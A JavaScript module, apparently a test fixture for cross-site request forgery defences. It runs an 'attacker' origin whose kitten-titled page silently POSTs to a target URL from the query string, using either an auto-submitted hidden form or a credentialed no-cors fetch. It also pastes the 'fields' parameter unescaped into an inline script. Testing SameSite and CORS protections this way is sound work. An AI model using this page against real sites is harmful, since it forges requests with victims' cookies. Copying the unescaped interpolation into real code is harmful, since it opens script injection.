// Another origin whose page sends a form, or a fetch, to wherever its URL says.
import { serve } from './servers.js';

export const startAttacker = (certificate) => serve(answer, certificate);

function answer(request, response) {
  const { searchParams } = new URL(request.url, 'http://attacker');
  const target = searchParams.get('target');
  response.setHeader('Content-Type', 'text/html; charset=utf-8');
  response.end(target ? page(searchParams.get('by'), target, searchParams.get('fields')) : 'nothing here');
}

function page(by, target, fields) {
  const attack = by === 'fetch' ? fetchFrom : submitFrom;
  return `<!doctype html><title>A page with kittens</title>
    <script type="module">(${attack})(${JSON.stringify(target)}, ${fields})</script>`;
}

/* Runs in the page: the browser navigates there with the victim's cookies, as far as SameSite lets them go. */
function submitFrom(target, fields) {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = target;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

/* Runs in the page: a 'simple' request needs no permission of the server to be sent. */
async function fetchFrom(target, fields) {
  const body = new URLSearchParams(fields);
  const sent = fetch(target, { method: 'POST', mode: 'no-cors', credentials: 'include', body });
  await sent.catch(() => {});
  document.title = 'sent';
}
